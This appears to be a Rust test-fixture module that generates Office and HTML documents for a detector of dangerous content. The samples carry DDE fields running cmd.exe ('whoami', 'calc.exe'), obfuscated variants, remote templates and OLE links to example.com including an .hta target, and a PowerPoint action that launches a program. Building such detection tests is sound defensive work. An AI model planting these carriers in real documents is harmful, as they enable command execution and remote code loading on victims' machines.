//! One sample or more for each row of the carrier table.

use super::build::{
    INSTRUCTION, R, W, document, docx, escape, field, package, paragraph, story, text, with_part, word_type,
};
use super::{related, usual};
use crate::make::opc::{Opc, PPTX};
use crate::samples::{Expect, Sample};
use base64::Engine;

pub(super) fn samples() -> Vec<Sample> {
    [body(), stories(), chunks(), remote(), merge(), flat(), html(), slides()].concat()
}

fn body() -> Vec<Sample> {
    let dde = docx(&field(r#"DDE cmd "/c whoami" "x""#));
    let simple = format!(r#"<w:fldSimple w:instr="{}">{}</w:fldSimple>"#, escape(INSTRUCTION), text("!"));
    let dirty = docx(&field(r#"DDE cmd "/c whoami""#).replacen("\"begin\"", "\"begin\" w:dirty=\"true\"", 1));
    let macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let docm = Opc::new().part("word/document.xml", macro_type, document(&paragraph(&field(INSTRUCTION)))).relate(
        "",
        "officeDocument",
        "word/document.xml",
    );
    let strict =
        document(&paragraph(&field(INSTRUCTION))).replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main");
    let strict = Opc::new().strict().part("word/document.xml", crate::make::opc::DOCX, strict).relate(
        "",
        "officeDocument",
        "word/document.xml",
    );
    vec![
        usual("W5", "w5-ddeauto.docx", docx(&field(INSTRUCTION))),
        Sample { row: "W5", name: "w5-dde.docx", bytes: dde, expect: Expect::Dde("cmd", "/c whoami") },
        Sample { row: "W5", name: "w5-dirty.docx", bytes: dirty, expect: Expect::Dde("cmd", "/c whoami") },
        usual("W5", "w5-simple.docx", docx(&simple)),
        usual("W5", "w5-macro.docm", docm.build()),
        usual("W10", "w10-strict.docx", strict.build()),
    ]
}

fn stories() -> Vec<Sample> {
    let inside = |root: &str| story(root, &paragraph(&field(INSTRUCTION)));
    let note = |root: &str, element: &str| {
        story(root, &format!(r#"<w:{element} w:id="1">{}</w:{element}>"#, paragraph(&field(INSTRUCTION))))
    };
    let glossary = format!(
        "<w:docParts><w:docPart><w:docPartBody>{}</w:docPartBody></w:docPart></w:docParts>",
        paragraph(&field(INSTRUCTION))
    );
    vec![
        usual("W6", "w6-header.docx", with_part("header", "header7.xml", &inside("hdr"))),
        usual("W6", "w6-footer.docx", with_part("footer", "footer1.xml", &inside("ftr"))),
        usual("W6", "w6-footnotes.docx", with_part("footnotes", "footnotes.xml", &note("footnotes", "footnote"))),
        usual("W6", "w6-endnotes.docx", with_part("endnotes", "endnotes.xml", &note("endnotes", "endnote"))),
        usual("W6", "w6-comments.docx", with_part("comments", "comments.xml", &note("comments", "comment"))),
        usual(
            "W6",
            "w6-glossary.docx",
            with_part("glossaryDocument", "glossary/document.xml", &story("glossaryDocument", &glossary)),
        ),
    ]
}

fn chunks() -> Vec<Sample> {
    let main = || document(r#"<w:altChunk r:id="rId1"/>"#);
    let chunk = |name: &str, content_type: &str, bytes: Vec<u8>| {
        package(main()).part(&format!("word/{name}"), content_type, bytes).relate("word/document.xml", "aFChunk", name)
    };
    let inner = docx(&field(INSTRUCTION));
    let rtf = format!(r"{{\rtf1 {{\field{{\*\fldinst {}}}{{\fldrslt x}}}}}}", INSTRUCTION.replace('\\', r"\\"));
    let remote = package(main()).relate_external("word/document.xml", "aFChunk", "http://example.com/chunk.docx");
    vec![
        usual("W7", "w7-chunk-html.docx", chunk("chunk.htm", "text/html", word_html().into_bytes()).build()),
        usual(
            "W7",
            "w7-chunk-docx.docx",
            chunk("chunk.bin", super::build::word_type("document.main").as_str(), inner).build(),
        ),
        usual("W7", "w7-chunk-rtf.docx", chunk("chunk.dat", "application/rtf", rtf.into_bytes()).build()),
        related("W7", "w7-chunk-remote.docx", "remote-chunk", remote.build()),
    ]
}

fn remote() -> Vec<Sample> {
    let plain = || package(document(&paragraph(&text("Harmless"))));
    let settings = |content: &str| story("settings", content);
    let template = plain()
        .part("word/settings.xml", &word_type("settings"), settings(r#"<w:attachedTemplate r:id="rId1"/>"#))
        .relate("word/document.xml", "settings", "settings.xml")
        .relate_external("word/settings.xml", "attachedTemplate", "http://example.com/t.dotm");
    let frame = plain()
        .part(
            "word/webSettings.xml",
            &word_type("webSettings"),
            story("webSettings", r#"<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>"#),
        )
        .relate("word/document.xml", "webSettings", "webSettings.xml")
        .relate_external("word/webSettings.xml", "frame", "http://example.com/dde.docx");
    let sub = package(document(r#"<w:subDoc r:id="rId1"/>"#)).relate_external(
        "word/document.xml",
        "subDocument",
        "http://example.com/sub.docx",
    );
    let object = r#"<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>"#;
    let object =
        package(document(object)).relate_external("word/document.xml", "oleObject", "http://example.com/object.hta");
    let field = |instruction: &str| docx(&super::build::field(instruction));
    vec![
        related("W8", "w8-template.docx", "remote-template", template.build()),
        related("W8", "w8-frame.docx", "remote-frame", frame.build()),
        related("W8", "w8-subdocument.docx", "remote-frame", sub.build()),
        related("W8", "w8-object.docx", "ole-link", object.build()),
        related(
            "W8",
            "w8-link.docx",
            "include-field",
            field(r#"LINK Word.Document.8 "http://example.com/x.docx" "OLE_LINK1" \a \p"#),
        ),
        related("W8", "w8-includetext.docx", "include-field", field(r#"INCLUDETEXT "http://example.com/x.docx""#)),
        related(
            "W8",
            "w8-includepicture.docx",
            "include-field",
            field(r#"INCLUDEPICTURE "http://example.com/x.png" \d"#),
        ),
        related("W8", "w8-database.docx", "include-field", field(r#"DATABASE \d "C:\\x.mdb" \s "SELECT * FROM t""#)),
    ]
}

fn merge() -> Vec<Sample> {
    let settings = |kind: &str| {
        let merge = format!(
            r#"<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="{kind}"/><w:connectString w:val="Entire Spreadsheet"/><w:query w:val="SELECT * FROM A1"/><w:dataSource r:id="rId1"/></w:mailMerge>"#
        );
        package(document(&paragraph(&field("MERGEFIELD Name"))))
            .part("word/settings.xml", &word_type("settings"), story("settings", &merge))
            .relate("word/document.xml", "settings", "settings.xml")
            .relate_external("word/settings.xml", "mailMergeSource", "file:///C:\\data\\addresses.xls")
    };
    vec![
        related("W9", "w9-merge-excel.docx", "mail-merge", settings("spreadsheet").build()),
        related("W9", "w9-merge-access.docx", "mail-merge", settings("database").build()),
    ]
}

fn flat() -> Vec<Sample> {
    let inner = document(&paragraph(&field(INSTRUCTION)));
    let inner = inner.split_once("?>").map_or("", |(_, rest)| rest);
    let word_2003 = |head: &str| {
        let body = paragraph(&field(INSTRUCTION));
        let ns = "http://schemas.microsoft.com/office/word/2003/wordml";
        format!(r#"<?xml version="1.0"?>{head}<w:wordDocument xmlns:w="{ns}"><w:body>{body}</w:body></w:wordDocument>"#)
    };
    let simple = word_2003("").replace(
        &paragraph(&field(INSTRUCTION)),
        &format!(r#"<w:p><w:fldSimple w:instr="{}"/></w:p>"#, escape(INSTRUCTION)),
    );
    vec![
        usual("W11", "w11-word2003.xml", word_2003(r#"<?mso-application progid="Word.Document"?>"#).into_bytes()),
        usual("W11", "w11-no-instruction.doc", word_2003("").into_bytes()),
        usual("W11", "w11-simple.xml", simple.into_bytes()),
        usual("W12", "w12-flatopc.xml", flat_opc(&format!("<pkg:xmlData>{inner}</pkg:xmlData>")).into_bytes()),
        usual("W12", "w12-base64-part.xml", flat_opc_chunk().into_bytes()),
        usual("W12", "w12-base64-main.xml", flat_opc(&binary(inner.as_bytes())).into_bytes()),
        usual("W5", "w5-loose-document.xml", document(&paragraph(&field(INSTRUCTION))).into_bytes()),
    ]
}

fn binary(bytes: &[u8]) -> String {
    let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
    let lines: Vec<&str> = encoded.as_bytes().chunks(76).filter_map(|line| std::str::from_utf8(line).ok()).collect();
    format!("<pkg:binaryData>\r\n{}\r\n</pkg:binaryData>", lines.join("\r\n"))
}

fn flat_part(name: &str, content_type: &str, content: &str) -> String {
    format!(r#"<pkg:part pkg:name="{name}" pkg:contentType="{content_type}">{content}</pkg:part>"#)
}

fn relations(kind: &str, target: &str) -> String {
    format!(
        r#"<pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/{kind}" Target="{target}"/></Relationships></pkg:xmlData>"#
    )
}

fn flat_package(parts: &str) -> String {
    format!(
        r#"<?xml version="1.0" standalone="yes"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{parts}</pkg:package>"#
    )
}

const RELATIONS: &str = "application/vnd.openxmlformats-package.relationships+xml";

fn flat_opc(main: &str) -> String {
    let rels = flat_part("/_rels/.rels", RELATIONS, &relations("officeDocument", "word/document.xml"));
    flat_package(&(rels + &flat_part("/word/document.xml", crate::make::opc::DOCX, main)))
}

/// A package whose chunk is base64 of HTML.
fn flat_opc_chunk() -> String {
    let main = document(r#"<w:altChunk r:id="rId1"/>"#);
    let main = main.split_once("?>").map_or("", |(_, rest)| rest);
    let parts = [
        flat_part("/_rels/.rels", RELATIONS, &relations("officeDocument", "word/document.xml")),
        flat_part("/word/_rels/document.xml.rels", RELATIONS, &relations("aFChunk", "chunk.htm")),
        flat_part("/word/document.xml", crate::make::opc::DOCX, &format!("<pkg:xmlData>{main}</pkg:xmlData>")),
        flat_part("/word/chunk.htm", "text/html", &binary(word_html().as_bytes())),
    ];
    flat_package(&parts.concat())
}

fn html_page(body: &str) -> String {
    format!(
        "<html xmlns:w=\"urn:schemas-microsoft-com:office:word\">\r\n<head><meta name=ProgId content=Word.Document></head>\r\n<body>{body}</body></html>"
    )
}

fn word_html() -> String {
    html_page(&format!(
        "<p class=MsoNormal><!--[if supportFields]><span style='mso-element:field-begin'></span>\r\n{}\r\n<span style='mso-element:\r\nfield-separator'></span><![endif]-->!Unexpected<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></p>",
        escape(INSTRUCTION)
    ))
}

/// What an editor leaves of it: a comment, and text behind.
fn word_fragment() -> String {
    format!(
        "<!--[if supportFields]><span style='mso-element:field-begin'></span>{}<span style='mso-element:field-separator'></span><![endif]-->x",
        escape(INSTRUCTION)
    )
}

fn html() -> Vec<Sample> {
    let simple = r#"<p><span style='mso-field-code:"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \0022\/k calc.exe\0022 "'>x</span></p>"#;
    let upper = word_html().replace("mso-element", "MSO-Element").replace("DDEAUTO", "&#68;DE<b>AUTO</b>");
    let mht = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Location: file:///C:/x.htm\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/html; charset=\"utf-8\"\r\n\r\n{}\r\n--b--\r\n",
        base64::engine::general_purpose::STANDARD.encode(word_html())
    );
    vec![
        usual("W13", "w13-fields.htm", word_html().into_bytes()),
        usual("W13", "w13-fragment.htm", word_fragment().into_bytes()),
        usual("W13", "w13-field-code.htm", html_page(simple).into_bytes()),
        usual("W13", "w13-disguised.htm", upper.into_bytes()),
        usual("W13", "w13-renamed.doc", word_html().into_bytes()),
        usual("W13", "w13-archive.mht", mht.into_bytes()),
        related(
            "W13",
            "w13-template.htm",
            "remote-template",
            html_page("<!--[if gte mso 9]><xml><w:WordDocument><w:AttachedTemplate HRef=\"http://example.com/t.dot\"></w:AttachedTemplate></w:WordDocument></xml><![endif]-->").into_bytes(),
        ),
    ]
}

fn slides() -> Vec<Sample> {
    let p = "http://schemas.openxmlformats.org/presentationml/2006/main";
    let a = "http://schemas.openxmlformats.org/drawingml/2006/main";
    let slide = |content: &str| {
        let xml = format!(r#"<p:sld xmlns:p="{p}" xmlns:a="{a}" xmlns:r="{R}"><p:cSld>{content}</p:cSld></p:sld>"#);
        let slide = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml";
        Opc::new()
            .part("ppt/presentation.xml", PPTX, format!(r#"<p:presentation xmlns:p="{p}"/>"#))
            .part("ppt/slides/slide1.xml", slide, xml)
            .relate("", "officeDocument", "ppt/presentation.xml")
            .relate("ppt/presentation.xml", "slide", "slides/slide1.xml")
    };
    let object = r#"<p:graphicFrame><p:oleObj progId="Excel.Sheet.12" r:id="rId1"><p:link updateAutomatic="1"/></p:oleObj></p:graphicFrame>"#;
    let program = r#"<p:cNvPr id="2" name="x"><a:hlinkHover r:id="rId1" action="ppaction://program"/></p:cNvPr>"#;
    let embedded = slide("").part("ppt/embeddings/package.bin", "application/octet-stream", docx(&field(INSTRUCTION)));
    vec![
        related(
            "P1",
            "p1-link.pptx",
            "ole-link",
            slide(object)
                .relate_external("ppt/slides/slide1.xml", "oleObject", "file:///\\\\host\\share\\book.xlsx!Sheet1")
                .build(),
        ),
        related(
            "P1",
            "p1-program.pptx",
            "program-action",
            slide(program)
                .relate_external("ppt/slides/slide1.xml", "hyperlink", "file:///C:\\Windows\\System32\\calc.exe")
                .build(),
        ),
        usual(
            "P1",
            "p1-embedded.pptx",
            embedded.relate("ppt/slides/slide1.xml", "package", "../embeddings/package.bin").build(),
        ),
    ]
}
